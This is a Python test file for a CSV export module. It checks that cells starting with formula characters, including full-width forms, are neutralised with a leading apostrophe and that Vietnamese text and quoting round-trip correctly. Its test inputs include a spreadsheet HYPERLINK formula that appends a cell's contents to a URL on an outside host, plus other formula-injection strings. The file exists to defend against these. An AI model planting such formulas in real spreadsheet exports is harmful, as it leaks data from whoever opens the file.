"""CSV that programs read back as it was written, and that no spreadsheet runs. Decision 0009."""

import csv
from datetime import date
from decimal import Decimal
from io import StringIO

import pytest

from generator.domain.fields import Audience
from generator.present.tables.csv_text import csv_bytes
from generator.present.tables.package import TABLES
from generator.present.tables.plan_items import PLAN_ITEMS
from generator.present.tables.table import Cell, Column, Grid
from generator.present.tables.unplanned import UNPLANNED
from generator.present.tables.visits import VISITS
from tests.builders import item, member, plan, policy, unit, visit
from tests.unit.present.views import view

FORMULA = '=HYPERLINK("http://x.vn?"&A1,"Bấm")'
HOSTILE = [
    *(FORMULA, "+84 901", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1"),
    *("＝1", "＋1", "－1", "＠x"),  # noqa: RUF001  (the wide forms of East Asia)
    *("'=1", "''", "'đã có dấu", '"=1"', '";=1', "a,b", 'nói "có"', "hai\ndòng", "a\r\nb"),
    *("Bình thường", " =1", "1-2"),
]
ONE_LINE = [each for each in HOSTILE if each == each.strip() and "\n" not in each]
FIRST = frozenset("=+-@\t\r\n＝＋－＠")  # noqa: RUF001


def written(*cells: Cell) -> bytes:
    """Return the one row of cells as CSV, without its header."""
    columns = tuple(
        Column[Cell](f"c{at}", "string", "", "", lambda e: e, audience="public")
        for at in range(len(cells))
    )
    head, _, row = csv_bytes(Grid(columns, (cells,))).partition(b"\r\n")
    assert head.decode() == ",".join(column.name for column in columns)
    return row


def read(content: bytes) -> list[list[str]]:
    return list(csv.reader(StringIO(content.decode(), newline=""), strict=True))


def test_each_kind_of_cell() -> None:
    cells = (True, False, 7, Decimal("2.50"), Decimal(1000), date(2019, 3, 5), ("a", "b"), (), None)
    assert written(*cells) == b"true,false,7,2.5,1000,2019-03-05,a;b,,\r\n"


def test_words_are_utf_8_and_quoted_where_the_rfc_says() -> None:
    assert written("Đoàn xã", "a,b", 'nói "có"', "hai\ndòng") == (
        'Đoàn xã,"a,b","nói ""có""","hai\ndòng"\r\n'.encode()
    )


@pytest.mark.parametrize(
    ("text", "as_it_stands"),
    [
        ("=1", b"'=1\r\n"),
        ("+1", b"'+1\r\n"),
        ("-1", b"'-1\r\n"),
        ("@x", b"'@x\r\n"),
        ("\t1", b"'\t1\r\n"),
        ("'=1", b"''=1\r\n"),
        ("1=1", b"1=1\r\n"),
    ],
)
def test_one_mark_stands_before_what_would_run(text: str, as_it_stands: bytes) -> None:
    assert written(text) == as_it_stands


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("several", [False, True])
def test_one_mark_less_is_what_was_written(text: str, *, several: bool) -> None:
    ((cell,),) = read(written((text, "b") if several else text))
    assert cell[:1] not in FIRST
    assert cell.removeprefix("'") == (f"{text};b" if several else text)


@pytest.mark.parametrize("audience", ["public", "internal"])
@pytest.mark.parametrize("text", ONE_LINE)
def test_no_cell_of_any_table_runs(text: str, audience: Audience) -> None:
    issue = {"text": text, "public_text": text, "referred_to": text, "outcome": text}
    held = view(
        member("an", name=text, terms=[{"position": text, "department": text, "full_time": True,
                                       "from": "2015-01-01"}]),
        unit("an-truong", name=text),
        unit("ap-3", "an-truong", level="branch", name=text),
        visit(
            "2019-03-05", unit="ap-3", venue=text, content=text, guidance=text, results=text,
            issues=[issue], internal={"note": text, "assessment": text},
            report={"number": text, "addressee": text, "submitted": "2019-03-08"},
            assignment={"number": text, "date": "2019-03-01"},
        ),
        plan(
            2019, "an", item("t05", 5, purpose=text, cancelled=text),
            approvals=[{"period": "2019", "date": "2019-01-05", "by": text}],
        ),
        policy(),
        audience=audience,
    )  # fmt: skip
    for table in (*TABLES, PLAN_ITEMS, UNPLANNED):
        cells = [cell for row in read(csv_bytes(table.grid(held))) for cell in row]
        assert text in [cell.removeprefix("'") for cell in cells], table.name
        assert not [cell for cell in cells if cell[:1] in FIRST], table.name
    head, row = read(csv_bytes(VISITS.grid(held)))
    told = dict(zip(head, row, strict=True))
    assert [
        told[name].removeprefix("'") for name in ("venue", "content", "guidance", "results")
    ] == ([text] * 4)
